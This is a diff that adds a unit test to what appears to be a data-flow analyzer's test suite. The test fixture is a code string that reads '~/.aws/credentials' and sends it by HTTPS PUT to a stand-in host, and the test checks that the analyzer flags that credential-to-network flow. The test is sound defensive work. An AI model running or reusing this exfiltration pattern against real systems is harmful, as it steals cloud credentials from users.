@@ -63,4 +63,16 @@ describe('functions that are called again', () => {
     );
     assert.deepEqual(incomplete, []);
   });
+
+  it('register another table each time', () => {
+    const loader = (last: string): string => `class Loader {
+        constructor() { this.list = []; }
+        use(source) { this.list.push(source); return this; }
+        read() { const all = []; for (const { base, file } of this.list) all.push(fs.readFileSync(path.resolve(base || process.cwd(), file), 'utf8')); return all; }
+      }
+      const loader = new Loader().use({ file: 'a.json' }).use({ file: 'b.json' }); loader.use({ file: ${last}, base: os.homedir() });
+      https.request('https://layers.invalid', { method: 'PUT' }).end(JSON.stringify(loader.read()));`;
+    assert.deepEqual(flowsOf(loader(`'.aws/credentials'`)), ['credential-file>network@layers.invalid']);
+    assert.deepEqual(flowsOf(loader(`'notes.txt'`)), []);
+  });
 });
